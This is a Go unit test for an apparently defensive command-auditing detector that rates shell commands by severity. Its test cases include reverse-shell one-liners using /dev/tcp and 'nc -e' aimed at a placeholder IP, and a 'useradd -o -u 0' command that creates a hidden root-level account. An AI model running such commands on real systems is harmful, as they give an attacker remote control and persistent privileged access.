package commands

import (
	"testing"

	"telltale/detect"
)

func TestAudited(t *testing.T) {
	for _, tc := range []struct {
		command         string
		service, others detect.Level
	}{
		{"bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", detect.Critical, detect.High},
		{"nc -e /bin/sh 203.0.113.7 4444", detect.Critical, detect.High},
		{"useradd -o -u 0 ops", detect.High, detect.High},
		{"sh -c wget -q https://feeds.example.com/p.xml -O /tmp/p.xml", detect.Medium, detect.Info},
		{"bash -c exec 3<>/dev/tcp/10.0.0.9/25; echo QUIT >&3", detect.Info, detect.Info},
		{"nc -z 10.0.0.9 25", detect.Info, detect.Info},
		{"useradd -u 1009 intern", detect.Info, detect.Info},
	} {
		if _, _, l := judgeAudited(tc.command, true); l != tc.service {
			t.Errorf("a service: %s: %v", tc.command, l)
		}
		if _, _, l := judgeAudited(tc.command, false); l != tc.others {
			t.Errorf("others: %s: %v", tc.command, l)
		}
	}
}
